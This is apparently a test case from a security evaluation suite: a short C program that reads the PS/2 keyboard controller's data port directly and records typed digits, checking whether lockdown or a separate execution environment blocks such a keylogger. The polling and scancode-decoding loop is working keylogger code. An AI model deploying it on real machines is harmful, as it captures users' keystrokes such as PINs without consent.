// SPDX-License-Identifier: Apache-2.0
/*
 * Reads the keyboard controller's data port flat out, where the last scancode stays.
 *
 * attack: port_key_logger
 * class: system
 * when: before
 * judge: keys
 * defence: boot
 * why: /dev/port and ioperm() reach the controller; lockdown shuts both, the REE has neither
 */
#include <string.h>

#include "i8042.h"
#include "report.h"

/* Scancode set 1, as the controller translates: 1 to 9, then 0. */
static char digit(uint8_t code)
{
	if (code < 0x02 || code > 0x0b)
		return 0;
	return code == 0x0b ? '0' : (char)('1' + code - 0x02);
}

int main(void)
{
	char digits[256] = "";
	uint8_t code, last = 0;
	size_t len = 0;
	int ret;

	attack_init();
	ret = i8042_open();
	attack_ready();
	if (ret)
		attack_failed("no way to the ports: %s", strerror(-ret));
	while (!attack_stopping() && len + 1 < sizeof(digits)) {
		code = i8042_data();
		if (code != last && digit(code))
			digits[len++] = digit(code);
		last = code;
	}
	attack_digits(digits);
	attack_failed("these are all the digits it saw");
}
